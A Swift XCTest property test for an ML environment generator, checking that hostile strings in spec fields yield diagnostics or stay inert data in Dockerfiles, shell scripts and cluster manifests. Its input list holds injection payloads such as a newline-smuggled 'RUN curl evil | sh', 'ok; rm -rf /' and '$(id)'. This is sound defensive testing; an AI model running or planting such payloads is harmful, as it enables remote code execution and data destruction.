import Foundation
import XCTest

@testable import MLEnvCore

/// A property test: hostile strings in every string field of a valid spec either get a
/// diagnostic or come out as data. The generated Dockerfile must have exactly the instructions
/// the same spec with a harmless value has (judged by BuildKit's parser), env values must come
/// back exactly, and every run.sh must pass `bash -n` and shellcheck.
final class HostileInputTests: XCTestCase {
    static let hostile = [
        "a\nRUN curl evil | sh", "it's", "say \"hi\"", "$(id)", "`id`", "a\\b", "# not a comment", "nul\u{0}byte",
        "line\u{2028}separator", "carriage\rreturn", String(repeating: "long", count: 2500), "two words", "--flag",
        "[\"json\", \"array\"]", "cat <<EOF", "${PATH}", "ok; rm -rf /", "ünïcödé", "tab\there", "trailing\\",
    ]

    /// Field name -> spec with `VALUE` where the field's value goes (as a YAML double-quoted scalar).
    static let fields: [(String, String)] = [
        ("name", "name: VALUE\nbase: python:3.11\n"),
        ("description", "name: t\ndescription: VALUE\nbase: python:3.11\n"),
        ("base", "name: t\nbase: VALUE\n"),
        ("python", "name: t\nbase: python:3.11\npython: VALUE\n"),
        ("cuda", "name: t\nbase: python:3.11\ncuda: VALUE\n"),
        ("framework.version", "name: t\nbase: python:3.11\ncuda: none\nframework: {name: pytorch, version: VALUE}\n"),
        ("packages.pip", "name: t\nbase: python:3.11\npackages: {pip: [VALUE]}\n"),
        ("packages.apt", "name: t\nbase: python:3.11\npackages: {apt: [VALUE]}\n"),
        ("volumes", "name: t\nbase: python:3.11\nvolumes: [VALUE]\n"),
        ("env value", "name: t\nbase: python:3.11\nenv: {SAFE: VALUE}\n"),
        ("env name", "name: t\nbase: python:3.11\nenv: {VALUE: x}\n"),
        ("secrets", "name: t\nbase: python:3.11\nsecrets: [VALUE]\n"),
        ("workdir", "name: t\nbase: python:3.11\nworkdir: VALUE\n"),
        ("setup", "name: t\nbase: python:3.11\nsetup: [VALUE]\n"),
        ("build.ca_bundle", "name: t\nbase: python:3.11\nbuild: {ca_bundle: VALUE}\n"),
        ("build.pip_index_url", "name: t\nbase: python:3.11\nbuild: {pip_index_url: VALUE}\n"),
        ("jupyter.bind", "name: t\nbase: python:3.11\njupyter: {bind: VALUE}\n"),
        ("command", "name: t\nbase: python:3.11\ncommand: VALUE\n"),
        ("command[]", "name: t\nbase: python:3.11\ncommand: [python, VALUE]\n"),
        ("resources.memory", "name: t\nbase: python:3.11\nresources: {memory: VALUE}\n"),
        ("kubernetes.namespace", "name: t\nbase: python:3.11\nkubernetes: {namespace: VALUE}\n"),
        ("kubernetes.image", "name: t\nbase: python:3.11\nkubernetes: {image: VALUE}\n"),
        ("kubernetes.storage_class", "name: t\nbase: python:3.11\nkubernetes: {storage_class: VALUE}\n"),
        ("kubernetes.storage_size", "name: t\nbase: python:3.11\nkubernetes: {storage_size: VALUE}\n"),
        ("slurm.partition", "name: t\nbase: python:3.11\nslurm: {partition: VALUE}\n"),
        ("slurm.time", "name: t\nbase: python:3.11\nslurm: {time: VALUE}\n"),
        ("slurm.image", "name: t\nbase: python:3.11\nslurm: {image: VALUE}\n"),
    ]

    /// A harmless value that each field accepts, for the reference structure.
    static let harmless: [String: String] = [
        "name": "t", "description": "fine", "base": "python:3.11", "python": "3.11", "cuda": "none",
        "framework.version": "2.1",
        "packages.pip": "numpy==1.26.4", "packages.apt": "git", "volumes": "/data:/data", "env value": "x",
        "env name": "X",
        "secrets": "TOKEN", "workdir": "/workspace", "setup": "true", "build.ca_bundle": "ca.pem",
        "build.pip_index_url": "https://pypi.example.org/simple", "jupyter.bind": "127.0.0.1",
        "command": "python train.py", "command[]": "train.py", "resources.memory": "8g", "kubernetes.namespace": "ml",
        "kubernetes.image": "registry.example.com/t:1", "kubernetes.storage_class": "fast",
        "kubernetes.storage_size": "10Gi",
        "slurm.partition": "gpu", "slurm.time": "4:00:00", "slurm.image": "t.sqsh",
    ]

    func generated(_ field: String, _ template: String, _ value: String) -> (String?, String?, [Diagnostic]) {
        let (outputs, diagnostics) = generatedFiles(field, template, value)
        return (outputs["Dockerfile"], outputs["run.sh"], diagnostics)
    }

    /// Every target's files, by path.
    func generatedFiles(_ field: String, _ template: String, _ value: String) -> ([String: String], [Diagnostic]) {
        let text = "mlenv: 1\ngpus: none\n" + template.replacingOccurrences(of: "VALUE", with: Quoting.json(value))
        // Whatever build.ca_bundle names exists, so the path itself is what is judged.
        let files = InMemoryFiles(
            Dictionary(
                [("specs/ca.pem", [UInt8(1)]), ("specs/" + value, [1])], uniquingKeysWith: { first, _ in first }))
        let result = MLEnv.generate(
            SourceFile(path: "specs/t.yaml", text: text), outputDirectory: "out", workingDirectory: "/w", files: files,
            targets: Set(Target.allCases))
        var outputs: [String: String] = [:]
        for file in result.outputs { outputs[file.path] = file.text }
        return (outputs, result.diagnostics)
    }

    /// The cluster targets with the same hostile values: the sbatch script and Apptainer's shell
    /// sections pass bash and shellcheck, manifests and devcontainer.json their schemas, and a
    /// command comes back word for word from bash (sbatch) and from the manifest.
    func testHostileStringsStayDataInTheClusterTargets() throws {
        let shellcheck = try requiredTool("shellcheck")
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent(
            "mlenv-hostile-cluster-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        var scripts: [String] = []
        var manifests: [String] = []
        var devcontainers: [String] = []
        var commands: [(expected: [String], sbatch: String, manifest: String)] = []
        for (field, template) in Self.fields {
            for value in Self.hostile + [Self.harmless[field]!] {
                let (files, diagnostics) = generatedFiles(field, template, value)
                guard !diagnostics.containsErrors else { continue }
                let index = scripts.count
                func write(_ path: String, _ name: String) throws -> String {
                    let url = folder.appendingPathComponent("\(index)-\(name)")
                    try Data(try XCTUnwrap(files[path], "\(field): no \(path)").utf8).write(to: url)
                    return url.path
                }
                let sbatch = try write(GeneratedFiles.slurm, "job.sbatch")
                scripts.append(sbatch)
                let manifest = try write(GeneratedFiles.kubernetes, "kubernetes.yaml")
                manifests.append(manifest)
                devcontainers.append(try write(GeneratedFiles.devcontainer, "devcontainer.json"))
                let definition = try XCTUnwrap(files[GeneratedFiles.apptainer])
                for section in ["%post", "%runscript", "%environment"] {
                    let url = folder.appendingPathComponent("\(index)-apptainer-\(section.dropFirst()).sh")
                    try Data(
                        ("#!/bin/bash\n" + (try XCTUnwrap(ApptainerSections.body(of: section, in: definition)))).utf8
                    ).write(to: url)
                    scripts.append(url.path)
                }
                if field == "command" { commands.append((["/bin/bash", "-c", value], sbatch, manifest)) }
                if field == "command[]" { commands.append((["python", value], sbatch, manifest)) }
            }
        }
        XCTAssertGreaterThan(commands.count, 15, "commands carry hostile values as data")
        for script in scripts {
            XCTAssertEqual(try runProcess("/bin/bash", ["-n", script]).status, 0, script)
        }
        let lint = try runProcess(shellcheck, ["--norc", "--severity=style"] + scripts)
        XCTAssertEqual(lint.status, 0, lint.output.prefix(2000).description)
        let validated = try runProcess(
            try requiredTool("kubernetes-validate"), ["--strict", "--quiet", "-k", "1.30.0"] + manifests)
        XCTAssertEqual(validated.status, 0, validated.output.prefix(2000).description)
        let schema = repositoryRoot.deletingLastPathComponent().appendingPathComponent(
            "shared/schemas/devContainer.base.schema.json"
        ).path
        let devcontainer = try runProcess(
            try requiredTool("check-jsonschema"), ["--schemafile", schema] + devcontainers)
        XCTAssertEqual(devcontainer.status, 0, devcontainer.output.prefix(2000).description)

        for command in commands {
            // bash reads the script's COMMAND array back, one NUL-terminated word each.
            let script = try String(contentsOfFile: command.sbatch, encoding: .utf8)
            let assignment = try XCTUnwrap(
                script.components(separatedBy: "\nCOMMAND=(").dropFirst().first?.components(separatedBy: "\n\n").first)
            let words = try runProcess(
                "/bin/bash", ["-c", "COMMAND=(" + assignment + "\nprintf '%s\\0' \"${COMMAND[@]}\""])
            XCTAssertEqual(
                words.output.split(separator: "\0", omittingEmptySubsequences: false).dropLast().map(String.init),
                command.expected)
            // The manifest's command words are plain or double-quoted (JSON's escapes) YAML
            // scalars, with every `$` doubled for Kubernetes.
            let manifest = try String(contentsOfFile: command.manifest, encoding: .utf8)
            let block = manifest.components(separatedBy: "          command:\n")[1].components(
                separatedBy: "          workingDir:")[0]
            let listed = try block.split(separator: "\n").map { line -> String in
                let json = String(line.drop { $0 == " " }.dropFirst(2))
                guard json.hasPrefix("\"") else { return json }
                return try XCTUnwrap(
                    try JSONSerialization.jsonObject(with: Data(json.utf8), options: .fragmentsAllowed) as? String)
            }
            XCTAssertEqual(listed, command.expected.map { $0.replacingOccurrences(of: "$", with: "$$") })
        }
    }

    func testHostileStringsAreDiagnosedOrStayData() throws {
        let python = try requiredTool("python3")
        let shellcheck = try requiredTool("shellcheck")
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("mlenv-hostile-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }

        var cases: [(field: String, value: String, dockerfile: String, reference: String)] = []
        var scripts: [String] = []
        var diagnosed = 0
        for (field, template) in Self.fields {
            let (reference, _, referenceDiagnostics) = generated(field, template, Self.harmless[field]!)
            XCTAssertFalse(
                referenceDiagnostics.containsErrors,
                "\(field): the harmless value is refused: \(referenceDiagnostics.map(\.message))")
            let referencePath = folder.appendingPathComponent("\(cases.count)-reference.Dockerfile").path
            try Data((reference ?? "").utf8).write(to: URL(fileURLWithPath: referencePath))
            for value in Self.hostile {
                let (dockerfile, script, diagnostics) = generated(field, template, value)
                if diagnostics.containsErrors {
                    XCTAssertNil(dockerfile, "\(field): files despite errors")
                    diagnosed += 1
                    continue
                }
                let index = cases.count
                let path = folder.appendingPathComponent("\(index).Dockerfile").path
                try Data(try XCTUnwrap(dockerfile).utf8).write(to: URL(fileURLWithPath: path))
                let scriptPath = folder.appendingPathComponent("\(index).run.sh").path
                try Data(try XCTUnwrap(script).utf8).write(to: URL(fileURLWithPath: scriptPath))
                scripts.append(scriptPath)
                cases.append((field, value, path, referencePath))
            }
        }
        XCTAssertGreaterThan(diagnosed, 100, "most hostile values are refused with a diagnostic")
        XCTAssertGreaterThan(cases.count, 20, "free-text fields carry hostile values as data")

        let paths = Array(Set(cases.flatMap { [$0.dockerfile, $0.reference] })).sorted()
        let parsed = try runProcess(
            python, [repositoryRoot.appendingPathComponent("Tests/Tools/parse_dockerfile.py").path] + paths)
        XCTAssertEqual(parsed.status, 0, parsed.output)
        let all = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(parsed.output.utf8)) as? [String: Any])
        func commands(_ path: String) -> [[String: Any]] { all[path] as? [[String: Any]] ?? [] }
        for item in cases {
            let got = commands(item.dockerfile)
            let expected = commands(item.reference)
            XCTAssertEqual(
                got.map { $0["cmd"] as? String }, expected.map { $0["cmd"] as? String },
                "\(item.field) = \(item.value.debugDescription.prefix(40)): the instructions changed")
            if item.field == "env value" {
                let env = got.first { ($0["cmd"] as? String) == "ENV" && (($0["value"] as? [String])?.first == "SAFE") }
                let raw = (env?["value"] as? [String])?.last ?? ""
                XCTAssertEqual(DockerfileWords.unquote(raw), item.value, "env value round trip")
            }
        }
        for script in scripts {
            let syntax = try runProcess("/bin/bash", ["-n", script])
            XCTAssertEqual(syntax.status, 0, "\(script): \(syntax.output)")
        }
        let lint = try runProcess(shellcheck, ["--norc", "--severity=style"] + scripts)
        XCTAssertEqual(lint.status, 0, lint.output.prefix(2000).description)
    }
}
